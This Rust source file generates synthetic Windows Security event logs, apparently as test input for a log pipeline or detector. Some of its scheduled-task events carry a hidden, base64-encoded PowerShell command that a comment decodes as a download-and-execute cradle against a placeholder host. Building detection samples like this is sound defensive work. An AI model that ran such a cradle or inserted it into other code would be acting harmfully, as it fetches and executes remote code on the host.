//! A stream of Windows Security events as a busy host writes it: made by rule, the same in every run.

use crate::inputs::random::Random;
use crate::inputs::samples::{Sample, Shape};
use serde_json::{Map, Value, json};

/// The form in which the records of a stream are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Form {
    /// As Fluent Bit's winevtlog does, `EventID` the fourth member.
    Winevtlog,
    /// Flat JSON, its members in another order in each record, the id anywhere.
    Flat,
}

/// The number of records of which one is a scheduled-task event.
pub const TASK_EVERY: usize = 1_000;

/// An endless stream of records of 2 to 4 kB.
#[derive(Debug, Clone)]
pub struct Stream {
    form: Form,
    random: Random,
    count: usize,
}

impl Stream {
    /// The stream in a form, from its beginning.
    pub const fn new(form: Form) -> Self {
        Self { form, random: Random::new(0x5eed), count: 0 }
    }

    fn other(&mut self) -> String {
        let kind = self.random.below(KINDS.len());
        let &(id, task, sentence, names) = KINDS.get(kind).unwrap_or(&KINDS[0]);
        let values: Vec<String> = names.iter().map(|name| self.value(name)).collect();
        let mut message = format!("{sentence}\r\n\r\nSubject:\r\n");
        for (name, value) in names.iter().zip(&values) {
            message.push_str(&format!("\t{name}:\t\t{value}\r\n"));
        }
        message.push_str("\r\n");
        message.push_str(&EXPLANATION.repeat(2 + self.random.below(3)));
        let computer = format!("WS{:03}.corp.example", self.random.below(400));
        let record_id = 900_000 + self.count;
        match self.form {
            Form::Winevtlog => json!({
                "ProviderName": PROVIDER, "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
                "Qualifiers": "", "EventID": id, "Version": 2, "Level": 0, "Task": task, "Opcode": 0,
                "Keywords": "0x8020000000000000", "TimeCreated": "2026-03-01 10:22:33 +0100",
                "EventRecordID": record_id, "ActivityID": "", "RelatedActivityID": "", "ProcessID": 744,
                "ThreadID": 2836, "Channel": "Security", "Computer": computer, "UserID": "", "Message": message,
                "StringInserts": values,
            })
            .to_string(),
            Form::Flat => {
                let mut members = vec![
                    ("EventID".to_owned(), json!(id)),
                    ("SourceName".into(), json!(PROVIDER)),
                    ("Channel".into(), json!("Security")),
                    ("Hostname".into(), json!(computer)),
                    ("Keywords".into(), json!("0x8020000000000000")),
                    ("Category".into(), json!(task)),
                    ("RecordNumber".into(), json!(record_id)),
                    ("@timestamp".into(), json!("2026-03-01T09:22:33.418Z")),
                    ("Message".into(), json!(message)),
                ];
                members.extend(names.iter().zip(&values).map(|(name, value)| ((*name).into(), json!(value))));
                self.shuffled(members)
            }
        }
    }

    /// A task event: every second one runs PowerShell, the others what Windows runs.
    fn task(&mut self) -> String {
        let sample = match self.count / TASK_EVERY % 2 {
            0 => Sample::new(4698, "powershell.exe", &format!("-NoProfile -w hidden -enc {ENCODED}")),
            _ => Sample::new(4702, r"%windir%\system32\defrag.exe", "-c -h -k -g -$"),
        };
        match self.form {
            Form::Winevtlog => sample.record(Shape::Winevtlog),
            Form::Flat => {
                let record: Map<String, Value> =
                    serde_json::from_str(&sample.record(Shape::Flat)).unwrap_or_default();
                self.shuffled(record.into_iter().collect())
            }
        }
    }

    fn shuffled(&mut self, mut members: Vec<(String, Value)>) -> String {
        for last in (1..members.len()).rev() {
            members.swap(last, self.random.below(last + 1));
        }
        let members: Vec<String> =
            members.into_iter().map(|(name, value)| format!("{}:{value}", Value::from(name))).collect();
        format!("{{{}}}", members.join(","))
    }

    fn value(&mut self, name: &str) -> String {
        let number = self.random.below(9_000) + 1_000;
        let ends = |ending: &str| name.ends_with(ending);
        if ends("Sid") {
            format!("S-1-5-21-1004336348-1177238915-682003330-{number}")
        } else if ends("LogonId") {
            format!("0x{:x}", number * 7_919)
        } else if ends("Guid") {
            format!("{{8A3E2C54-5E2F-4C1B-9B1D-0000{number:08}}}")
        } else if ends("DomainName") {
            "CORP".into()
        } else if ends("UserName") {
            format!("user{}", number % 300)
        } else if ends("ProcessName") {
            let programs = ["svchost", "lsass", "services", "explorer", "msedge", "backupd"];
            format!(
                r"C:\Windows\System32\{}.exe",
                programs.get(number % programs.len()).unwrap_or(&"svchost")
            )
        } else if ends("CommandLine") {
            format!(
                r#""C:\Program Files\Vendor\agent.exe" --instance {number} --config "C:\ProgramData\Vendor\agent.json""#
            )
        } else if ends("Address") {
            format!("10.{}.{}.17", number % 250, number % 7)
        } else if ends("List") {
            PRIVILEGES.into()
        } else {
            format!("%%{number}")
        }
    }
}

impl Iterator for Stream {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        let is_task = self.count % TASK_EVERY == TASK_EVERY / 2;
        let record = if is_task { self.task() } else { self.other() };
        self.count += 1;
        Some(record)
    }
}

const PROVIDER: &str = "Microsoft-Windows-Security-Auditing";
/// UTF-16 of `IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')`.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBhACcAKQA=";
const PRIVILEGES: &str = "SeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege";
const EXPLANATION: &str = "This event is generated when the operation was carried out on the computer that is named above.\r\n\r\nThe subject fields name the account on the local system which asked for it. This is most commonly a service such as the Server service, or a local process.\r\n\r\nThe process fields name the program and its command line, where auditing of these is switched on.\r\n\r\n";

/// Event id, audit category, the first sentence of the message, the names of the values.
type Event = (u16, u16, &'static str, &'static [&'static str]);

/// The kinds of events that fill a Security log.
const KINDS: [Event; 6] = [
    (
        4624,
        12_544,
        "An account was successfully logged on.",
        &[
            "SubjectUserSid",
            "SubjectUserName",
            "SubjectDomainName",
            "SubjectLogonId",
            "TargetUserSid",
            "TargetUserName",
            "TargetDomainName",
            "TargetLogonId",
            "LogonType",
            "LogonProcess",
            "AuthenticationPackage",
            "WorkstationName",
            "LogonGuid",
            "TransmittedServices",
            "LmPackage",
            "KeyLength",
            "ProcessId",
            "ProcessName",
            "IpAddress",
            "IpPort",
        ],
    ),
    (
        4688,
        13_312,
        "A new process has been created.",
        &[
            "SubjectUserSid",
            "SubjectUserName",
            "SubjectDomainName",
            "SubjectLogonId",
            "NewProcessId",
            "NewProcessName",
            "TokenElevationType",
            "ProcessId",
            "CommandLine",
            "TargetUserSid",
            "TargetUserName",
            "TargetDomainName",
            "TargetLogonId",
            "ParentProcessName",
            "MandatoryLabel",
        ],
    ),
    (
        4672,
        12_548,
        "Special privileges assigned to new logon.",
        &["SubjectUserSid", "SubjectUserName", "SubjectDomainName", "SubjectLogonId", "PrivilegeList"],
    ),
    (
        4634,
        12_545,
        "An account was logged off.",
        &["TargetUserSid", "TargetUserName", "TargetDomainName", "TargetLogonId", "LogonType"],
    ),
    (
        5156,
        12_810,
        "The Windows Filtering Platform has permitted a connection.",
        &[
            "ProcessId",
            "ProcessName",
            "Direction",
            "SourceAddress",
            "SourcePort",
            "DestAddress",
            "DestPort",
            "Protocol",
            "FilterRTID",
            "LayerName",
            "LayerRTID",
        ],
    ),
    (
        4663,
        12_800,
        "An attempt was made to access an object.",
        &[
            "SubjectUserSid",
            "SubjectUserName",
            "SubjectDomainName",
            "SubjectLogonId",
            "ObjectServer",
            "ObjectType",
            "ObjectName",
            "HandleId",
            "AccessList",
            "AccessMask",
            "ProcessId",
            "ProcessName",
            "ResourceAttributes",
        ],
    ),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_stream_is_what_it_says_and_the_same_every_time() {
        for form in [Form::Winevtlog, Form::Flat] {
            let records: Vec<String> = Stream::new(form).take(3_000).collect();
            assert!(Stream::new(form).take(3_000).eq(records.iter().cloned()));
            let ids = records.iter().map(|record| {
                let record: Value = serde_json::from_str(record).unwrap();
                record["EventID"].as_u64().unwrap()
            });
            assert_eq!(ids.filter(|id| (4698..=4702).contains(id)).count(), 3);
            let mean = records.iter().map(String::len).sum::<usize>() / records.len();
            assert!((2_000..4_000).contains(&mean), "{mean}");
        }
    }
}
